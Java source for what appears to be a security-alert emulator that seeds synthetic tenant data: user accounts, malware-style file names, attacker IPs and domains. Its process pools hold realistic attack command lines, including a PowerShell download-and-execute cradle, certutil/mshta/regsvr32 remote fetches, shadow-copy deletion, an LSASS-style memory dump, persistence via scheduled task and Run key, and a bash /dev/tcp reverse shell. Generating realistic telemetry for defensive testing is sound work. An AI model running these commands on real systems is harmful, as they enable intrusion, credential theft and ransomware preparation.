package org.defendersql.emulator.data;

import java.util.ArrayList;
import java.util.HashSet;
import java.util.List;
import java.util.Locale;
import java.util.Set;

/**
 * The tenant's shared, in-memory pools that alerts draw from: accounts, suspicious files, process images,
 * attacker IP addresses and domains, and SOC analysts. Built once from the seed.
 */
final class Pools {
  static final String DOMAIN = "CONTOSO";
  static final String DNS_SUFFIX = "contoso.com";

  /**
   * How many drawn account names in a row may clash before a user gets a name derived from its relative id;
   * redrawing for ever never ended once the drawn names ran out (a tenant of over 104,000 machines).
   */
  private static final int ACCOUNT_DRAWS = 32;
  private static final List<String> FIRST = List.of("James", "Mary", "John", "Patricia", "Robert", "Jennifer",
      "Michael", "Linda", "David", "Elizabeth", "William", "Barbara", "Richard", "Susan", "Joseph", "Jessica",
      "Thomas", "Sarah", "Carlos", "Karen", "Wei", "Aisha", "Hiroshi", "Fatima", "Olga", "Pierre", "Ingrid",
      "Rahul", "Priya", "Mateo", "Lucia", "Ahmed", "Yuki", "Noah", "Emma", "Liam", "Sofia", "Lars", "Anna");
  private static final List<String> LAST = List.of("Smith", "Johnson", "Williams", "Brown", "Jones", "Garcia",
      "Miller", "Davis", "Rodriguez", "Martinez", "Hernandez", "Lopez", "Wilson", "Anderson", "Taylor", "Moore",
      "Jackson", "Martin", "Lee", "Thompson", "White", "Harris", "Clark", "Lewis", "Walker", "Young", "Allen",
      "King", "Wright", "Scott", "Nguyen", "Chen", "Kumar", "Tanaka", "Muller", "Rossi", "Novak", "Silva",
      "Kowalski", "Dubois", "Jensen", "Okafor");
  private static final List<String> SERVICE_ACCOUNTS = List.of("svc_backup", "svc_sql", "svc_sccm", "svc_web",
      "svc_scan", "svc_deploy", "svc_monitor", "svc_exchange");
  private static final List<String> MALICIOUS_NAMES = List.of("invoice_%d.exe", "Invoice_%d.docm",
      "scan_%d.pdf.exe", "setup_%d.exe", "update%d.exe", "payload%d.dll", "report_Q%d.xlsm", "svchost%d.exe",
      "chrome_update_%d.exe", "mimikatz.exe", "procdump64.exe", "PsExec64.exe", "rubeus.exe", "nc%d.exe",
      "readme_%d.hta", "loader%d.ps1", "crack_%d.zip", "keygen_%d.exe", "agent%d.sh", "miner%d");
  private static final List<String> FOLDERS = List.of("C:\\Users\\{user}\\Downloads",
      "C:\\Users\\{user}\\AppData\\Local\\Temp", "C:\\Users\\{user}\\AppData\\Roaming", "C:\\ProgramData",
      "C:\\Windows\\Temp", "C:\\Users\\Public", "C:\\Users\\{user}\\Desktop");
  private static final List<String> TLDS = List.of("com", "net", "xyz", "top", "ru", "info", "online", "site");
  private static final List<String> SYLLABLES = List.of("secure", "login", "update", "cdn", "micros0ft", "office",
      "verify", "account", "cloud", "drive", "share", "docs", "support", "service", "portal", "mail", "sync",
      "data", "files", "auth");

  final List<UserAccount> users = new ArrayList<>();
  final List<UserAccount> serviceAccounts = new ArrayList<>();
  final List<String> analysts = new ArrayList<>();
  final List<FileSample> files = new ArrayList<>();
  final List<ProcessImage> windowsProcesses = new ArrayList<>();
  final List<ProcessImage> unixProcesses = new ArrayList<>();
  final List<String> attackerIps = new ArrayList<>();
  final List<String> attackerDomains = new ArrayList<>();
  final List<String> egressIps = new ArrayList<>();

  Pools(long seed, int machines) {
    final Rng r = Rng.of(seed, 1, 0);
    final String domainSid = "S-1-5-21-" + r.between(1_000_000_000, 2_000_000_000) + "-"
        + r.between(1_000_000_000, 2_000_000_000) + "-" + r.between(100_000_000, 999_999_999);
    final Set<String> names = new HashSet<>();
    final int userCount = Math.max(40, machines * 4 / 5);
    int rid = 1100;
    int clashes = 0;
    while (users.size() < userCount) {
      final String first = r.pick(FIRST);
      final String last = r.pick(LAST);
      String account = (first.charAt(0) + last).toLowerCase(Locale.ROOT);
      if (!names.add(account)) {
        final String base = account;
        account = base + r.between(2, 99);
        if (!names.add(account) && ++clashes < ACCOUNT_DRAWS) {
          continue;
        }
        if (clashes == ACCOUNT_DRAWS) {
          // The drawn names (about 83,000) are nearly all taken: a name ending in the relative id's four digits
          // or more is never drawn (those end in two at most), and no two users share a relative id.
          account = base + rid;
          names.add(account);
        }
      }
      clashes = 0;
      users.add(new UserAccount(account, DOMAIN, domainSid + "-" + rid++, r.guid(), account + "@" + DNS_SUFFIX));
    }
    for (String svc : SERVICE_ACCOUNTS) {
      serviceAccounts.add(new UserAccount(svc, DOMAIN, domainSid + "-" + rid++, r.guid(), svc + "@" + DNS_SUFFIX));
    }
    for (int i = 0; i < 12; i++) {
      analysts.add("soc-" + users.get(r.nextInt(users.size())).upn());
    }
    final int fileCount = Math.max(60, machines / 4);
    for (int i = 0; i < fileCount; i++) {
      final String name = String.format(Locale.ROOT, r.pick(MALICIOUS_NAMES), r.between(1, 9999));
      files.add(new FileSample(name, r.pick(FOLDERS), r.hex(40), r.hex(64)));
    }
    addWindowsProcesses(r);
    addUnixProcesses(r);
    for (int i = 0; i < 80; i++) {
      attackerIps.add(r.pick("185", "45", "193", "91", "103", "194", "5", "23") + "." + r.between(1, 254) + "."
          + r.between(0, 254) + "." + r.between(1, 254));
    }
    for (int i = 0; i < 50; i++) {
      attackerDomains.add(r.pick(SYLLABLES) + "-" + r.pick(SYLLABLES) + (r.chance(0.3) ? r.between(1, 99) : "")
          + "." + r.pick(TLDS));
    }
    for (int i = 0; i < 6; i++) {
      egressIps.add(r.pick("20", "40", "52", "104", "13") + "." + r.between(1, 254) + "." + r.between(0, 254)
          + "." + r.between(1, 254));
    }
  }

  private void addWindowsProcesses(Rng r) {
    final String sys32 = "C:\\Windows\\System32";
    final String office = "C:\\Program Files\\Microsoft Office\\root\\Office16";
    windowsProcesses.add(image(r, "powershell.exe", sys32 + "\\WindowsPowerShell\\v1.0", false,
        "powershell.exe -NoProfile -ExecutionPolicy Bypass -EncodedCommand SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoA",
        "powershell.exe -nop -w hidden -c \"IEX (New-Object Net.WebClient).DownloadString('http://{domain}/a')\"",
        "\"powershell.exe\" -ExecutionPolicy Bypass -File C:\\ProgramData\\{file}"));
    windowsProcesses.add(image(r, "cmd.exe", sys32, false, "cmd.exe /c whoami /all & net group \"Domain Admins\" "
        + "/domain", "cmd.exe /c vssadmin delete shadows /all /quiet", "cmd.exe /c start {file}"));
    windowsProcesses.add(image(r, "rundll32.exe", sys32, false, "rundll32.exe {file},DllRegisterServer",
        "rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump 672 C:\\Windows\\Temp\\l.dmp full"));
    windowsProcesses.add(image(r, "regsvr32.exe", sys32, false, "regsvr32.exe /s /n /u /i:http://{domain}/x.sct "
        + "scrobj.dll"));
    windowsProcesses.add(image(r, "mshta.exe", sys32, false, "mshta.exe http://{domain}/readme.hta"));
    windowsProcesses.add(image(r, "certutil.exe", sys32, false, "certutil.exe -urlcache -split -f "
        + "http://{domain}/{file} C:\\Users\\Public\\{file}"));
    windowsProcesses.add(image(r, "schtasks.exe", sys32, false, "schtasks.exe /create /sc minute /mo 30 /tn "
        + "\"OneDrive Update\" /tr C:\\ProgramData\\{file} /f"));
    windowsProcesses.add(image(r, "wmic.exe", sys32 + "\\wbem", false, "wmic.exe /node:10.0.4.12 process call "
        + "create \"cmd.exe /c {file}\"", "wmic.exe shadowcopy delete"));
    windowsProcesses.add(image(r, "reg.exe", sys32, false, "reg.exe add "
        + "HKLM\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Run /v Updater /d C:\\ProgramData\\{file} /f"));
    windowsProcesses.add(image(r, "WINWORD.EXE", office, false, "\"WINWORD.EXE\" /n \"C:\\Users\\{user}\\"
        + "Downloads\\{file}\" /o \"\""));
    windowsProcesses.add(image(r, "EXCEL.EXE", office, false, "\"EXCEL.EXE\" \"C:\\Users\\{user}\\Downloads\\"
        + "{file}\""));
    windowsProcesses.add(image(r, "net.exe", sys32, false, "net.exe localgroup administrators {user} /add",
        "net.exe user /domain"));
  }

  private void addUnixProcesses(Rng r) {
    unixProcesses.add(image(r, "bash", "/usr/bin", true, "bash -c \"curl -fsSL http://{domain}/i.sh | sh\"",
        "/bin/bash -i >& /dev/tcp/{ip}/4444 0>&1"));
    unixProcesses.add(image(r, "curl", "/usr/bin", true, "curl -o /tmp/{file} http://{domain}/{file}"));
    unixProcesses.add(image(r, "python3", "/usr/bin", true, "python3 -c \"import socket,subprocess,os;"
        + "s=socket.socket();s.connect(('{ip}',443))\""));
    unixProcesses.add(image(r, "chmod", "/usr/bin", true, "chmod +x /tmp/{file}"));
  }

  private static ProcessImage image(Rng r, String name, String folder, boolean unix, String... commandLines) {
    return new ProcessImage(name, folder, r.hex(40), r.hex(64), List.of(commandLines), unix);
  }
}
